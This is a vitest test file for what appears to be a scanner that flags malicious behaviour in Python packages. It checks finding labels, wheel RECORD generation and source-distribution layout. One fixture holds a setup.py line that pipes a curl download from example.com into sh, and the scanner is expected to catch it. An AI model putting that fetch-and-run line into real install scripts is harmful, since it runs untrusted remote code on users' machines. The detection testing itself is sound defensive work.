import { beforeAll, expect, test } from "vitest";
import { openArtifact } from "../../../../main/archive/open-artifact.ts";
import { loadSyntaxEngine } from "../../../../main/python/engine/load-engine.ts";
import type { SyntaxEngine } from "../../../../main/python/engine/syntax-engine.ts";
import { buildCase } from "./build-case.ts";
import { examineCase } from "./examine-case.ts";
import { compareLabels, labelsOf } from "./labels.ts";
import type { Expected, Specimen } from "./load-case.ts";

const expected: Expected = {
	project: "vivarium-specimen",
	version: "1.0",
	bare: false,
	package: [],
	packageNotes: [],
	match: {},
	note: {},
	anomalies: [],
};

function specimenOf(files: Record<string, string>, more: Partial<Specimen> = {}): Specimen {
	const contents = new Map(Object.entries(files).map(([path, text]) => [path, Buffer.from(text)]));
	return { files: contents, described: [], expected, ...more };
}

let engine: SyntaxEngine;

beforeAll(async () => {
	engine = await loadSyntaxEngine();
});

const LOUD = "import os\nos.system('curl -s https://example.com/a | sh')";

test("a finding without its label is told, one with it is not", async () => {
	const bare = specimenOf({ "setup.py": LOUD });
	const found = await examineCase(engine, bare);
	const told = compareLabels("coin-miner", labelsOf(bare), found.labels);
	expect(told.unlabelled).toContain("setup.py:2 shell-download match");
	const comments = told.unlabelled.map((label) => `  # match: ${label.split(" ")[1]}`).join("");
	const labelled = specimenOf({ "setup.py": LOUD + comments });
	const again = compareLabels("coin-miner", labelsOf(labelled), (await examineCase(engine, labelled)).labels);
	expect(again).toEqual({ unlabelled: [], notFound: [] });
});

test("a label without its finding is told", async () => {
	const specimen = specimenOf({ "a.py": "x = 1  # match: coin-miner" });
	const { labels } = await examineCase(engine, specimen);
	expect(compareLabels("destruction", labelsOf(specimen), labels).notFound).toEqual(["a.py:1 coin-miner match"]);
});

test("what is below medium must be labelled only in its own folder", () => {
	const found = new Set(["a.py:1 coin-miner note"]);
	expect(compareLabels("destruction", new Set(), found).unlabelled).toEqual([]);
	expect(compareLabels("coin-miner", new Set(), found).unlabelled).toEqual(["a.py:1 coin-miner note"]);
});

test("places that bear no label stand in expect.json", () => {
	const specimen = specimenOf(
		{},
		{
			expected: { ...expected, package: ["a"], packageNotes: ["b"], match: { "x.bin": ["c"] }, note: { "y:3": ["d"] } },
		},
	);
	expect([...labelsOf(specimen)]).toEqual([
		"(package):0 a match",
		"(package):0 b note",
		"x.bin:1 c match",
		"y:3 d note",
	]);
});

test("a wheel gets its metadata, and a RECORD as it is asked for", async () => {
	const { source } = buildCase(
		specimenOf(
			{ "specimen/__init__.py": "" },
			{
				described: [
					{ path: "specimen/tool", hex: "cafe 00", repeat: 2, mode: "755" },
					{
						path: "vivarium_specimen-1.0.dist-info/RECORD",
						record: { without: ["specimen/__init__.py"], wrong: ["specimen/tool"] },
					},
				],
			},
		),
	);
	const opened = await openArtifact(source);
	expect(opened.artifact).toMatchObject({ kind: "wheel", project: "vivarium-specimen", version: "1.0" });
	const tool = opened.members.find((member) => member.path === "specimen/tool");
	expect(tool).toMatchObject({ size: 6, mode: 0o755 });
	const record = opened.members.find((member) => member.path.endsWith("/RECORD"));
	const text = Buffer.from(await opened.read(record?.id ?? "")).toString();
	expect(text.split("\n").map((line) => line.replace(/sha256=[^,]*,\d+/, "…"))).toEqual([
		"specimen/tool,…",
		"vivarium_specimen-1.0.dist-info/METADATA,…",
		"vivarium_specimen-1.0.dist-info/WHEEL,…",
		"vivarium_specimen-1.0.dist-info/RECORD,,",
		"",
	]);
	expect(text).not.toContain(Buffer.from(tool?.sha256 ?? "", "hex").toString("base64url"));
	await opened.close();
});

test("a source distribution stands in its folder", async () => {
	const { source, root } = buildCase(specimenOf({ "setup.py": "" }, { described: [{ path: "l", link: "setup.py" }] }));
	const opened = await openArtifact(source);
	expect(root).toBe("vivarium_specimen-1.0/");
	expect(opened.members.map((member) => [member.path.slice(root.length), member.kind])).toEqual([
		["setup.py", "file"],
		["l", "symlink"],
		["PKG-INFO", "file"],
	]);
	await opened.close();
});
